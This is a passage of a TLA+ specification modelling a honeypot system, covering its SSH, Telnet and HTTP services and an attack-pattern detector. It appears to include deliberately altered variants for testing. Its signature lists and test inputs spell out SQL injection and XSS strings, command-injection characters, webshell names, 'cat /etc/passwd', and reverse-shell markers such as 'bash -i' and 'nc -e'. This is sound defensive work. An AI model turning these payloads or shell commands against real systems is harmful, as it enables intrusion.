SshCheckAuthPasswordResult(username, password) == "AUTH_FAILED"

\* what check_auth_publickey returns
SshCheckAuthPublickeyResult(username, key) == "AUTH_FAILED"

\* the entry check_auth_password appends
SshPasswordAttempt(username, password) ==
    [username |-> username, password |-> password, method |-> "password", success |-> FALSE]

\* the entry check_auth_publickey appends
SshPublickeyAttempt(username, key) ==
    [username        |-> username,
     method          |-> "publickey",
     key_type        |-> key.name,
     key_fingerprint |-> Hex(key.fingerprint),
     success         |-> FALSE]

\* self.sessions[session_id] as _handle_connection creates it
SshNewSession == [commands |-> <<>>]

\* a connection that ends without its attempts stored
SshFinish_dropsAttempts(session, attempts) ==
    [commands |-> session.commands, end_time |-> <<1>>]

\* accept() has returned: "Store auth attempts in session", then the finally
\* block stamps end_time
SshFinish(session, attempts) ==
    [commands |-> session.commands, auth_attempts |-> attempts, end_time |-> <<1>>]

\* an exception in the try block: the finally block alone
SshFinishOnError(session) == [commands |-> session.commands, end_time |-> <<1>>]

SshInit ==
    /\ ssh_pc = "listening"
    /\ ssh_session = [commands |-> <<>>, absent |-> TRUE]
    /\ ssh_events = <<>>
    /\ ssh_auth_attempts = <<>>
    /\ ssh_results = <<>>
    /\ ssh_calls = <<>>

\* _handle_connection creates the transport and the server interface
SshAccept ==
    /\ ssh_pc = "listening"
    /\ ssh_pc' = "auth"
    /\ ssh_auth_attempts' = <<>>
    /\ ssh_session' = SshNewSession
    /\ UNCHANGED <<ssh_results, ssh_calls, ssh_events>>
    /\ UNCHANGED <<ftpVars, telVars, restVars>>

SshUsers == {"root", "admin"}

SshPasswords == {"", "123456"}

\* get_name() and get_fingerprint() of the keys offered (fingerprints cut to two bytes)
SshKeys == { [name |-> "ssh-rsa", fingerprint |-> <<171, 18>>],
             [name |-> "ssh-ed25519", fingerprint |-> <<0, 255>>] }

\* the transport calls check_auth_password
SshCheckAuthPassword ==
    /\ ssh_pc = "auth"
    /\ Len(ssh_calls) < MaxAuthCalls
    /\ \E username \in SshUsers : \E password \in SshPasswords :
          /\ ssh_auth_attempts' = Append(ssh_auth_attempts, SshPasswordAttempt(username, password))
          /\ ssh_results' = Append(ssh_results, SshCheckAuthPasswordResult(username, password))
          /\ ssh_calls' = Append(ssh_calls, [method |-> "password", username |-> username,
                                            password |-> password])
    /\ UNCHANGED ssh_pc
    /\ UNCHANGED <<ftpVars, telVars, restVars>>
    /\ UNCHANGED <<ssh_session, ssh_events>>

\* the transport calls check_auth_publickey
SshCheckAuthPublickey ==
    /\ ssh_pc = "auth"
    /\ Len(ssh_calls) < MaxAuthCalls
    /\ \E username \in SshUsers : \E key \in SshKeys :
          /\ ssh_auth_attempts' = Append(ssh_auth_attempts, SshPublickeyAttempt(username, key))
          /\ ssh_results' = Append(ssh_results, SshCheckAuthPublickeyResult(username, key))
          /\ ssh_calls' = Append(ssh_calls, [method |-> "publickey", username |-> username,
                                            key |-> key.name])
    /\ UNCHANGED ssh_pc
    /\ UNCHANGED <<ftpVars, telVars, restVars>>
    /\ UNCHANGED <<ssh_session, ssh_events>>

\* transport.accept(session_timeout) returns None (no channel was opened:
\* every authentication fails); the attempts are stored and the finally
\* block runs
SshAcceptReturnsNone ==
    /\ ssh_pc = "auth"
    /\ ssh_pc' = "closed"
    /\ ssh_session' = SshFinish(ssh_session, ssh_auth_attempts)
    /\ ssh_events' = Append(ssh_events, SessionEnded(ssh_session'))
    /\ UNCHANGED <<ssh_auth_attempts, ssh_results, ssh_calls>>
    /\ UNCHANGED <<ftpVars, telVars, restVars>>

\* Transport() or start_server raises (the negotiation failed), which is
\* before the transport makes any check_auth_* call
SshStartServerRaises ==
    /\ ssh_pc = "auth"
    /\ ssh_calls = <<>>
    /\ ssh_pc' = "closed"
    /\ ssh_session' = SshFinishOnError(ssh_session)
    /\ ssh_events' = Append(ssh_events, SessionEnded(ssh_session'))
    /\ UNCHANGED <<ssh_auth_attempts, ssh_results, ssh_calls>>
    /\ UNCHANGED <<ftpVars, telVars, restVars>>

SshNext ==
    \/ SshAccept
    \/ SshCheckAuthPassword
    \/ SshCheckAuthPublickey
    \/ SshAcceptReturnsNone
    \/ SshStartServerRaises

----------------------------------------------------------------------------
(* TelnetHoneypot *)

\* the device_type ServiceManager constructs the honeypot with (the default)
device_type == "router"

DEVICE_PROFILES ==
    [router |-> [banner |-> "Welcome to Generic Router\r\nLogin: ", prompt |-> "router> "],
     camera |-> [banner |-> "IP Camera System v2.1\r\nlogin: ", prompt |-> "ipcam# "],
     dvr    |-> [banner |-> "DVR System Console\r\nUsername: ", prompt |-> "dvr$ "]]

device_profile == DEVICE_PROFILES[device_type]

max_attempts == 3

\* The loops of _receive_line, run over the bytes available on the wire
\* starting from `buffer`.  The outer recv(1) loop stops at the first CR or
\* LF; the inner loop (timeout 0.1 s) then takes every following CR or LF
\* and, if another byte is there, that byte too, which is dropped.  The
\* value is the whole buffer, decoded and stripped.  With no CR or LF the
\* loop has taken every available byte into the buffer and is blocked.
TelReceiveLoop(buffer, wire) ==
    LET all == buffer \o wire
        stops == {k \in (Len(buffer) + 1)..Len(all) : all[k] \in {10, 13}}
    IN  IF stops = {}
        THEN [kind |-> "blocked", buffer |-> all, rest |-> <<>>, value |-> None]
        ELSE LET k == Min(stops)
                 others == {j \in (k + 1)..Len(all) : all[j] \notin {10, 13}}
                 last == IF others = {} THEN Len(all) ELSE Min(others)
             IN  [kind   |-> "line",
                  buffer |-> SubSeq(all, 1, k),
                  rest   |-> SubSeq(all, last + 1, Len(all)),
                  value  |-> Strip(Decode(SubSeq(all, 1, k)))]

\* an authentication phase that opens the shell once the attempts are used up
TelAuthenticated_afterMax(attempts) == attempts >= max_attempts

\* what _handle_authentication returns, at each of its return statements
TelAuthenticated(attempts) == FALSE

\* the record stored at connection accept
TelNewSession ==
    [auth_attempts |-> <<>>, commands |-> <<>>, device_type |-> device_type, end_time |-> None]

\* the finally block of _handle_connection
TelFinish(session) == [session EXCEPT !.end_time = <<1>>]

\* the finally block logs the session as it is when the handler leaves
TelLogEnd ==
    tel_events' = IF tel_pc # "closed" /\ tel_pc' = "closed"
                  THEN Append(tel_events, SessionEnded(tel_session'))
                  ELSE tel_events

TelInit ==
    /\ tel_pc = "listening"
    /\ tel_session = [auth_attempts |-> <<>>, commands |-> <<>>, device_type |-> device_type,
                      end_time |-> None, absent |-> TRUE]
    /\ tel_attempts = 0
    /\ tel_username = None
    /\ tel_wire = <<>>
    /\ tel_buf = <<>>
    /\ tel_out = <<>>
    /\ tel_line = NoLine
    /\ tel_reads = 0
    /\ tel_sent = <<>>
    /\ tel_peer = "open"
    /\ tel_events = <<>>

\* start() accepts a connection; _handle_connection stores the session,
\* sends the banner and enters _handle_authentication
TelAccept ==
    /\ tel_pc = "listening"
    /\ tel_pc' = "username"
    /\ tel_session' = TelNewSession
    /\ tel_attempts' = 0
    /\ tel_out' = Append(tel_out, device_profile.banner)
    /\ UNCHANGED <<tel_username, tel_wire, tel_buf, tel_line, tel_reads, tel_sent, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ TelLogEnd

\* _handle_authentication returns `authenticated`; _handle_connection enters
\* the command phase if it is true and runs its finally block otherwise
TelLeaveAuthentication(authenticated, session) ==
    IF authenticated
    THEN /\ tel_pc' = "shell"
         /\ tel_session' = session
    ELSE /\ tel_pc' = "closed"
         /\ tel_session' = TelFinish(session)

\* _receive_line returned None (recv timed out, returned b'' or raised)
TelNoLine(cause) ==
    /\ tel_line' = [kind |-> cause, value |-> None]
    /\ tel_buf' = <<>>
    /\ TelLeaveAuthentication(TelAuthenticated(tel_attempts), tel_session)
    /\ UNCHANGED <<tel_attempts, tel_username, tel_wire, tel_out, tel_reads, tel_sent, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ TelLogEnd

\* one _receive_line call of the `while attempts < max_attempts` loop over
\* the bytes available, and the code up to the next call
TelAuthStep ==
    /\ tel_pc \in {"username", "password"}
    /\ tel_wire # <<>>
    /\ UNCHANGED <<tel_sent, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ LET r == TelReceiveLoop(tel_buf, tel_wire)
       IN  IF r.kind = "blocked"
           THEN /\ tel_buf' = r.buffer
                /\ tel_wire' = <<>>
                /\ UNCHANGED <<tel_pc, tel_session, tel_attempts, tel_username, tel_out,
                               tel_line, tel_reads>>
           ELSE /\ tel_line' = [kind |-> "line", value |-> r.value]
                /\ tel_reads' = tel_reads + 1
                /\ tel_wire' = r.rest
                /\ tel_buf' = <<>>
                /\ IF Falsy(r.value)
                   THEN /\ TelLeaveAuthentication(TelAuthenticated(tel_attempts), tel_session)
                        /\ UNCHANGED <<tel_attempts, tel_username, tel_out>>
                   ELSE IF tel_pc = "username"
                   THEN /\ tel_username' = r.value
                        /\ tel_out' = Append(tel_out, "Password: ")
                        /\ tel_pc' = "password"
                        /\ UNCHANGED <<tel_session, tel_attempts>>
                   ELSE LET stored == [tel_session EXCEPT !.auth_attempts =
                                          Append(@, [username |-> tel_username,
                                                     password |-> r.value,
                                                     success  |-> FALSE])]
                            rejected == tel_out \o <<"Login incorrect\r\n", device_profile.banner>>
                        IN  /\ tel_attempts' = tel_attempts + 1
                            /\ UNCHANGED tel_username
                            /\ IF tel_attempts + 1 < max_attempts
                               THEN /\ tel_pc' = "username"
                                    /\ tel_session' = stored
                                    /\ tel_out' = rejected
                               ELSE /\ tel_out' = Append(rejected, "Too many login failures\r\n")
                                    /\ TelLeaveAuthentication(
                                           TelAuthenticated(tel_attempts + 1), stored)
    /\ TelLogEnd

\* recv blocks for the whole timeout: no byte is available
TelTimeout ==
    /\ tel_pc \in {"username", "password"}
    /\ tel_wire = <<>>
    /\ tel_peer = "open"
    /\ TelNoLine("timeout")

\* recv returns b'': the peer has closed and every byte has been read
TelEndOfStream ==
    /\ tel_pc \in {"username", "password"}
    /\ tel_wire = <<>>
    /\ tel_peer = "closed"
    /\ TelNoLine("eof")

\* recv raises (connection reset)
TelReceiveError ==
    /\ tel_pc \in {"username", "password"}
    /\ TelNoLine("error")

(* the peer *)

\* what the peer types on one line: "root", " x " and nothing
TelPayloads == { <<114, 111, 111, 116>>, <<32, 120, 32>>, <<>> }

\* the peer opened with a flood
Flooded == tel_sent # <<>> /\ Len(tel_sent[1]) > 64

\* the peer writes one line (payload and CRLF) in one segment
TelPeerSend ==
    /\ tel_pc \in {"username", "password"}
    /\ tel_peer = "open"
    /\ Len(tel_sent) < (IF Flooded THEN MaxFloodLines ELSE MaxTelLines)
    /\ \E p \in TelPayloads :
          /\ tel_wire' = tel_wire \o p \o CRLF
          /\ tel_sent' = Append(tel_sent, p)
    /\ UNCHANGED <<tel_pc, tel_session, tel_attempts, tel_username, tel_buf, tel_out,
                   tel_line, tel_reads, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ UNCHANGED tel_events

\* the peer writes FloodLen bytes "a" and no line end, before anything else
TelPeerFlood ==
    /\ tel_pc = "username"
    /\ tel_peer = "open"
    /\ tel_sent = <<>>
    /\ tel_wire = <<>>
    /\ tel_buf = <<>>
    /\ tel_wire' = [i \in 1..FloodLen |-> 97]
    /\ tel_sent' = <<[i \in 1..FloodLen |-> 97]>>
    /\ UNCHANGED <<tel_pc, tel_session, tel_attempts, tel_username, tel_buf, tel_out,
                   tel_line, tel_reads, tel_peer>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ UNCHANGED tel_events

TelPeerClose ==
    /\ tel_pc \in {"username", "password"}
    /\ tel_peer = "open"
    /\ tel_peer' = "closed"
    /\ UNCHANGED <<tel_pc, tel_session, tel_attempts, tel_username, tel_wire, tel_buf, tel_out,
                   tel_line, tel_reads, tel_sent>>
    /\ UNCHANGED <<ftpVars, sshVars, restVars>>
    /\ UNCHANGED tel_events

TelNext ==
    \/ TelAccept
    \/ TelAuthStep
    \/ TelTimeout
    \/ TelEndOfStream
    \/ TelReceiveError
    \/ TelPeerSend
    \/ TelPeerFlood
    \/ TelPeerClose

----------------------------------------------------------------------------
(* HTTPHoneypot *)

LowerChar(c) == IF c >= 65 /\ c <= 90 THEN c + 32 ELSE c

\* str.lower()
Lower(s) == [i \in 1..Len(s) |-> LowerChar(s[i])]

\* `p in s` for two str
Contains(s, p) == \E i \in 0..(Len(s) - Len(p)) : SubSeq(s, i + 1, i + Len(p)) = p

\* any(p in s for p in patterns), patterns a list
AnyIn(patterns, s) == \E k \in 1..Len(patterns) : Contains(s, patterns[k])

\* the signature lists of _detect_attack_type
sql_patterns ==
    <<<<39, 32, 111, 114, 32, 39, 49, 39, 61, 39, 49>>,   \* ' or '1'='1
      <<117, 110, 105, 111, 110, 32, 115, 101, 108, 101, 99, 116>>,   \* union select
      <<115, 101, 108, 101, 99, 116, 32, 42, 32, 102, 114, 111, 109>>,   \* select * from
      <<39, 59, 32, 100, 114, 111, 112, 32, 116, 97, 98, 108, 101>>,   \* '; drop table
      <<111, 114, 32, 49, 61, 49>>,   \* or 1=1
      <<39, 32, 111, 114, 32, 39, 97, 39, 61, 39, 97>>>>  \* ' or 'a'='a

xss_patterns ==
    <<<<60, 115, 99, 114, 105, 112, 116, 62>>,   \* <script>
      <<106, 97, 118, 97, 115, 99, 114, 105, 112, 116, 58>>,   \* javascript:
      <<111, 110, 101, 114, 114, 111, 114, 61>>,   \* onerror=
      <<111, 110, 108, 111, 97, 100, 61>>,   \* onload=
      <<60, 105, 109, 103, 32, 115, 114, 99, 61>>>>  \* <img src=

\* `"../" in full_path or "..%2f" in full_path.lower()`
traversal_patterns ==
    <<<<46, 46, 47>>,   \* ../
      <<46, 46, 37, 50, 102>>>>  \* ..%2f

cmd_patterns ==
    <<<<59>>,   \* ;
      <<124>>,   \* |
      <<96>>,   \* `
      <<36, 40>>,   \* $(
      <<36, 123>>>>  \* ${

shell_patterns ==
    <<<<46, 112, 104, 112>>,   \* .php
      <<115, 104, 101, 108, 108>>,   \* shell
      <<99, 57, 57>>,   \* c99
      <<114, 53, 55>>,   \* r57
      <<119, 101, 98, 115, 104, 101, 108, 108>>>>  \* webshell

admin_patterns ==
    <<<<47, 97, 100, 109, 105, 110>>,   \* /admin
      <<47, 119, 112, 45, 97, 100, 109, 105, 110>>,   \* /wp-admin
      <<47, 112, 104, 112, 109, 121, 97, 100, 109, 105, 110>>>>  \* /phpmyadmin

config_patterns ==
    <<<<46, 101, 110, 118>>,   \* .env
      <<99, 111, 110, 102, 105, 103, 46>>,   \* config.
      <<46, 103, 105, 116>>,   \* .git
      <<46, 104, 116, 97, 99, 99, 101, 115, 115>>>>  \* .htaccess

\* the return value None of _detect_attack_type, among the category names
NoAttack == "None"

\* a detector that looks for the admin panel before anything else
detect_attack_type_adminFirst(path, query_string) ==
    LET full_path == <<47>> \o path
        query     == Lower(Decode(query_string))
    IN  IF AnyIn(admin_patterns, Lower(full_path)) THEN "admin_probing"
        ELSE IF AnyIn(sql_patterns, Lower(query)) THEN "sql_injection"
        ELSE IF AnyIn(xss_patterns, Lower(query)) THEN "xss"
        ELSE IF Contains(full_path, traversal_patterns[1])
                \/ Contains(Lower(full_path), traversal_patterns[2]) THEN "path_traversal"
        ELSE IF AnyIn(cmd_patterns, query) THEN "command_injection"
        ELSE IF AnyIn(shell_patterns, Lower(full_path)) THEN "webshell_access"
        ELSE IF AnyIn(config_patterns, Lower(full_path)) THEN "config_exposure"
        ELSE NoAttack

\* _detect_attack_type(path, request): full_path = f"/{path}",
\* query = request.query_string.decode('utf-8', errors='ignore').lower()
detect_attack_type(path, query_string) ==
    LET full_path == <<47>> \o path
        query     == Lower(Decode(query_string))
    IN  IF AnyIn(sql_patterns, Lower(query)) THEN "sql_injection"
        ELSE IF AnyIn(xss_patterns, Lower(query)) THEN "xss"
        ELSE IF Contains(full_path, traversal_patterns[1])
                \/ Contains(Lower(full_path), traversal_patterns[2]) THEN "path_traversal"
        ELSE IF AnyIn(cmd_patterns, query) THEN "command_injection"
        ELSE IF AnyIn(shell_patterns, Lower(full_path)) THEN "webshell_access"
        ELSE IF AnyIn(admin_patterns, Lower(full_path)) THEN "admin_probing"
        ELSE IF AnyIn(config_patterns, Lower(full_path)) THEN "config_exposure"
        ELSE NoAttack

\* the admin panel list of _generate_response: /admin, /wp-admin, /login, /phpmyadmin
panel_patterns ==
    <<<<47, 97, 100, 109, 105, 110>>,
      <<47, 119, 112, 45, 97, 100, 109, 105, 110>>,
      <<47, 108, 111, 103, 105, 110>>,
      <<47, 112, 104, 112, 109, 121, 97, 100, 109, 105, 110>>>>

\* the shell file list of _generate_response: shell, c99, r57, webshell
response_shell_patterns ==
    <<<<115, 104, 101, 108, 108>>,
      <<99, 57, 57>>,
      <<114, 53, 55>>,
      <<119, 101, 98, 115, 104, 101, 108, 108>>>>

\* request.form of a request without form fields
HttpNoForm == [username |-> None, password |-> None]

\* request.form.get(key, default)
FormGet(form, key, default) == IF form[key] = None THEN default ELSE form[key]

\* render_template_string(self.ADMIN_PANEL_HTML, error=error): the error div
\* is rendered under `{% if error %}`
AdminPanel(error) == [html |-> "ADMIN_PANEL_HTML", error |-> error]

\* a Response whose body is a fixed text
Plain(text) == [html |-> text, error |-> ""]

\* a login form that lets admin/admin in
generate_response_acceptsAdmin(path, method, form) ==
    LET full_path == <<47>> \o path
    IN  IF AnyIn(panel_patterns, Lower(full_path))
        THEN IF method = "POST" /\ FormGet(form, "username", <<>>) # FormGet(form, "password", <<>>)
             THEN [body |-> AdminPanel("Invalid credentials"), status |-> 401]
             ELSE [body |-> AdminPanel(""), status |-> 200]
        ELSE IF AnyIn(config_patterns, Lower(full_path))
        THEN [body |-> Plain("403 Forbidden"), status |-> 403]
        ELSE IF AnyIn(response_shell_patterns, Lower(full_path))
        THEN [body |-> Plain("404 Not Found"), status |-> 404]
        ELSE [body |-> Plain("Welcome"), status |-> 200]

\* the Response _generate_response(path, request) returns
generate_response(path, method, form) ==
    LET full_path == <<47>> \o path
    IN  IF AnyIn(panel_patterns, Lower(full_path))
        THEN IF method = "POST"
             THEN [body |-> AdminPanel("Invalid credentials"), status |-> 401]
             ELSE [body |-> AdminPanel(""), status |-> 200]
        ELSE IF AnyIn(config_patterns, Lower(full_path))
        THEN [body |-> Plain("403 Forbidden"), status |-> 403]
        ELSE IF AnyIn(response_shell_patterns, Lower(full_path))
        THEN [body |-> Plain("404 Not Found"), status |-> 404]
        ELSE [body |-> Plain("Welcome"), status |-> 200]

\* the http_login_attempt events _generate_response logs for a request
login_attempts(path, method, form) ==
    LET full_path == <<47>> \o path
    IN  IF AnyIn(panel_patterns, Lower(full_path)) /\ method = "POST"
        THEN <<[event_type |-> "http_login_attempt",
                path       |-> full_path,
                username   |-> FormGet(form, "username", <<>>),
                password   |-> FormGet(form, "password", <<>>),
                success    |-> FALSE]>>
        ELSE <<>>

HttpInit ==
    /\ http_sessions = <<>>
    /\ http_detected = <<>>
    /\ http_responses = <<>>
    /\ http_logins = <<>>

\* the paths the catch-all route hands over (no leading slash)
HttpPaths ==
    {<<>>,   \* (empty)
     <<97, 100, 109, 105, 110>>,   \* admin
     <<65, 100, 109, 105, 110, 47, 117, 115, 101, 114, 115>>,   \* Admin/users
     <<115, 104, 101, 108, 108, 46, 112, 104, 112>>,   \* shell.php
     <<98, 97, 99, 107, 117, 112, 47, 46, 101, 110, 118>>,   \* backup/.env
     <<102, 105, 108, 101, 115, 47, 46, 46, 47, 101, 116, 99>>,   \* files/../etc
     <<120, 47, 46, 46, 37, 50, 70, 101, 116, 99>>,   \* x/..%2Fetc
     <<119, 112, 45, 97, 100, 109, 105, 110, 47, 99, 111, 110, 102, 105, 103, 46, 112, 104, 112>>,   \* wp-admin/config.php
     <<105, 110, 100, 101, 120, 46, 104, 116, 109, 108>>}  \* index.html

\* the raw query strings of the requests
HttpQueries ==
    {<<>>,   \* (empty)
     <<105, 100, 61, 49, 39, 32, 79, 82, 32, 39, 49, 39, 61, 39, 49>>,   \* id=1' OR '1'='1
     <<113, 61, 60, 83, 67, 82, 73, 80, 84, 62, 97, 108, 101, 114, 116, 40, 49, 41>>,   \* q=<SCRIPT>alert(1)
     <<99, 109, 100, 61, 59, 108, 115>>,   \* cmd=;ls
     <<102, 61, 46, 46, 47, 101, 116, 99>>,   \* f=../etc
     <<97, 61, 117, 110, 105, 255, 111, 110, 32, 115, 101, 108, 101, 99, 116, 124>>,   \* a=uni\xffon select|
     <<112, 97, 103, 101, 61, 50>>}  \* page=2

\* the paths of the requests whose response is examined
HttpResponsePaths ==
    {
     <<>>,   \* (empty)
     <<97, 100, 109, 105, 110>>,   \* admin
     <<65, 100, 109, 105, 110, 47, 117, 115, 101, 114, 115>>,   \* Admin/users
     <<119, 112, 45, 97, 100, 109, 105, 110, 47, 99, 111, 110, 102, 105, 103, 46, 112, 104, 112>>,   \* wp-admin/config.php
     <<117, 115, 101, 114, 47, 76, 79, 71, 73, 78>>,   \* user/LOGIN
     <<112, 104, 112, 77, 121, 65, 100, 109, 105, 110, 47>>,   \* phpMyAdmin/
     <<98, 97, 99, 107, 117, 112, 47, 46, 101, 110, 118>>,   \* backup/.env
     <<46, 103, 105, 116, 47, 99, 111, 110, 102, 105, 103>>,   \* .git/config
     <<46, 104, 116, 97, 99, 99, 101, 115, 115>>,   \* .htaccess
     <<67, 111, 110, 102, 105, 103, 46, 105, 110, 99>>,   \* Config.inc
     <<115, 104, 101, 108, 108, 46, 112, 104, 112>>,   \* shell.php
     <<105, 110, 100, 101, 120, 46, 112, 104, 112>>,   \* index.php
     <<67, 57, 57>>,   \* C99
     <<120, 47, 114, 53, 55, 46, 116, 120, 116>>,   \* x/r57.txt
     <<97, 47, 119, 101, 98, 115, 104, 101, 108, 108>>,   \* a/webshell
     <<105, 110, 100, 101, 120, 46, 104, 116, 109, 108>>}   \* index.html

\* request.method of the catch-all route
HttpMethods == {"GET", "POST", "PUT", "HEAD"}

\* request.form of the POST requests
HttpForms ==
    { HttpNoForm,
      [username |-> <<97, 100, 109, 105, 110>>, password |-> <<97, 100, 109, 105, 110>>],     \* admin / admin
      [username |-> <<114, 111, 111, 116>>, password |-> None] }   \* root, no password field

\* _handle_request(path): the request is logged and stored, the attack type
\* is detected (and logged when there is one) and the response generated
HttpServe(paths, queries, methods, forms) ==
    /\ Len(http_sessions) < MaxRequests
    /\ \E path \in paths, query_string \in queries, method \in methods, form \in forms :
          /\ method # "POST" => form = HttpNoForm
          /\ http_sessions' = Append(http_sessions,
                                     [path |-> <<47>> \o path,
                                      query_string |-> Decode(query_string),
                                      method |-> method,
                                      post_data |-> form])
          /\ http_detected' = Append(http_detected, detect_attack_type(path, query_string))
          /\ http_logins' = http_logins \o login_attempts(path, method, form)
          /\ http_responses' = Append(http_responses, generate_response(path, method, form))
    /\ UNCHANGED exceptHttp

\* requests that differ in path and query string
HttpHandleRequest == HttpServe(HttpPaths, HttpQueries, {"GET"}, {HttpNoForm})

\* requests that differ in path, method and form
HttpHandleLogin == HttpServe(HttpResponsePaths, {<<>>}, HttpMethods, HttpForms)

HttpNext == HttpHandleRequest

----------------------------------------------------------------------------
(* PatternDetector *)

\* a number that is a float in the code, kept exact as num / den
Ratio(num, den) == [num |-> num, den |-> den]

\* a min() that lets every value through
Min100_unclamped(x) == Ratio(x, 1)

\* min(100.0, x) for an int x
Min100(x) == IF x < 100 THEN Ratio(x, 1) ELSE Ratio(100, 1)

\* the timestamp of a record: "iso" is a str datetime.fromisoformat accepts
\* (what the honeypots write), "none" a missing or None timestamp, "garbage"
\* a str it rejects
Timestamp(kind, t) == [kind |-> kind, t |-> t]

\* Optional[AttackPattern] as a list of no or one pattern
NoPattern == <<>>

\* _detect_brute_force raises: fromisoformat on a str it rejects (ValueError),
\* or the subtraction of a None timestamp (TypeError)
BruteForceRaises(auth_attempts) ==
    /\ Len(auth_attempts) >= 5
    /\ Len(auth_attempts) >= 2
    /\ \/ auth_attempts[1].timestamp.kind # "iso"
       \/ auth_attempts[Len(auth_attempts)].timestamp.kind # "iso"

\* (a.get("username"), a.get("password")) for the attempts that have both
Credentials(auth_attempts) ==
    SelectSeq([i \in 1..Len(auth_attempts) |->
                  <<auth_attempts[i].username, auth_attempts[i].password>>],
              LAMBDA c : ~Falsy(c[1]) /\ ~Falsy(c[2]))

SeqRange(s) == {s[i] : i \in 1..Len(s)}

\* the severity ladder without its first rung
Severity_noCritical(n) ==
    IF n > 20 THEN "high" ELSE IF n > 10 THEN "medium" ELSE "low"

Severity(n) ==
    IF n > 50 THEN "critical"
    ELSE IF n > 20 THEN "high"
    ELSE IF n > 10 THEN "medium"
    ELSE "low"

\* _detect_brute_force(ip, auth_attempts), when it does not raise
detect_brute_force(ip, auth_attempts) ==
    IF Len(auth_attempts) < 5 THEN NoPattern
    ELSE <<[pattern_type     |-> "brute_force",
            severity         |-> Severity(Len(auth_attempts)),
            indicators       |-> [source_ip |-> ip,
                                  attempt_count |-> Len(auth_attempts),
                                  unique_credentials |->
                                      Cardinality(SeqRange(Credentials(auth_attempts)))],
            occurrence_count |-> Len(auth_attempts),
            confidence_score |-> Min100(Len(auth_attempts) * 2)]>>

\* Counter(credentials)[c]
CredCount(credentials, c) == Cardinality({i \in 1..Len(credentials) : credentials[i] = c})

\* a maximum that sees no repeat
MaxRetries_noRepeat(credentials) == 1

\* max(cred_counts.values())
MaxRetries(credentials) ==
    CHOOSE n \in 1..Len(credentials) :
        /\ \E c \in SeqRange(credentials) : CredCount(credentials, c) = n
        /\ \A c \in SeqRange(credentials) : CredCount(credentials, c) <= n

\* _detect_credential_stuffing(ip, auth_attempts); unique_ratio < 0.7 is
\* 10 * unique < 7 * total (the quotient of two counts up to some hundreds is
\* never within a rounding error of 0.7 unless it is 0.7)
detect_credential_stuffing(ip, auth_attempts) ==
    LET credentials == Credentials(auth_attempts)
        unique      == Cardinality(SeqRange(credentials))
    IN  IF Len(credentials) < 10 THEN NoPattern
        ELSE IF MaxRetries(credentials) > 3 THEN NoPattern
        ELSE IF 10 * unique < 7 * Len(credentials) THEN NoPattern
        ELSE <<[pattern_type     |-> "credential_stuffing",
                severity         |-> "high",
                indicators       |-> [source_ip |-> ip,
                                      total_attempts |-> Len(credentials),
                                      unique_credentials |-> unique,
                                      max_retries_per_credential |-> MaxRetries(credentials)],
                occurrence_count |-> Len(credentials),
                confidence_score |-> Ratio(unique * 100, Len(credentials))]>>

\* recon_commands
recon_commands ==
    {
     <<119, 104, 111, 97, 109, 105>>,   \* whoami
     <<105, 100>>,   \* id
     <<117, 110, 97, 109, 101>>,   \* uname
     <<104, 111, 115, 116, 110, 97, 109, 101>>,   \* hostname
     <<112, 119, 100>>,   \* pwd
     <<108, 115>>,   \* ls
     <<99, 97, 116, 32, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100>>,   \* cat /etc/passwd
     <<99, 97, 116, 32, 47, 112, 114, 111, 99, 47, 118, 101, 114, 115, 105, 111, 110>>,   \* cat /proc/version
     <<105, 102, 99, 111, 110, 102, 105, 103>>,   \* ifconfig
     <<105, 112, 32, 97, 100, 100, 114>>,   \* ip addr
     <<110, 101, 116, 115, 116, 97, 116>>,   \* netstat
     <<112, 115, 32, 97, 117, 120>>,   \* ps aux
     <<119>>,   \* w
     <<119, 104, 111>>,   \* who
     <<108, 97, 115, 116>>,   \* last
     <<101, 110, 118>>,   \* env
     <<112, 114, 105, 110, 116, 101, 110, 118>>   \* printenv
    }

\* _detect_reconnaissance with a finding from the second match on
detect_reconnaissance_fromTwo(ip, commands) ==
    LET recon_matches ==
            SelectSeq(commands,
                      LAMBDA c : \E r \in recon_commands : Contains(Strip(Lower(c.command)), r))
    IN  IF Len(recon_matches) < 2 THEN NoPattern
        ELSE <<[pattern_type     |-> "reconnaissance",
                severity         |-> "medium",
                indicators       |-> [source_ip |-> ip,
                                      recon_commands |-> Len(recon_matches),
                                      total_commands |-> Len(commands)],
                occurrence_count |-> Len(recon_matches),
                confidence_score |-> Min100(Len(recon_matches) * 10)]>>

\* _detect_reconnaissance(ip, commands)
detect_reconnaissance(ip, commands) ==
    LET recon_matches ==
            SelectSeq(commands,
                      LAMBDA c : \E r \in recon_commands : Contains(Strip(Lower(c.command)), r))
    IN  IF Len(recon_matches) < 3 THEN NoPattern
        ELSE <<[pattern_type     |-> "reconnaissance",
                severity         |-> "medium",
                indicators       |-> [source_ip |-> ip,
                                      recon_commands |-> Len(recon_matches),
                                      total_commands |-> Len(commands)],
                occurrence_count |-> Len(recon_matches),
                confidence_score |-> Min100(Len(recon_matches) * 10)]>>

\* tool_signatures, in the order of the dict
tool_signatures ==
    <<[tool_name |-> "metasploit",
       signatures |-> <<
            <<109, 101, 116, 101, 114, 112, 114, 101, 116, 101, 114>>,   \* meterpreter
            <<109, 115, 102>>,   \* msf
            <<112, 97, 121, 108, 111, 97, 100>>   \* payload
          >>],
      [tool_name |-> "nmap",
       signatures |-> <<
            <<110, 109, 97, 112>>,   \* nmap
            <<110, 99, 97, 116>>,   \* ncat
            <<110, 99, 32, 45>>   \* nc -
          >>],
      [tool_name |-> "wget_curl",
       signatures |-> <<
            <<119, 103, 101, 116>>,   \* wget
            <<99, 117, 114, 108, 32, 104, 116, 116, 112>>   \* curl http
          >>],
      [tool_name |-> "reverse_shell",
       signatures |-> <<
            <<98, 97, 115, 104, 32, 45, 105>>,   \* bash -i
            <<47, 98, 105, 110, 47, 115, 104>>,   \* /bin/sh
            <<47, 98, 105, 110, 47, 98, 97, 115, 104>>,   \* /bin/bash
            <<110, 99, 32, 45, 101>>   \* nc -e
          >>],
      [tool_name |-> "privilege_escalation",
       signatures |-> <<
            <<115, 117, 100, 111, 32, 45, 115>>,   \* sudo -s
            <<115, 117, 32, 45>>,   \* su -
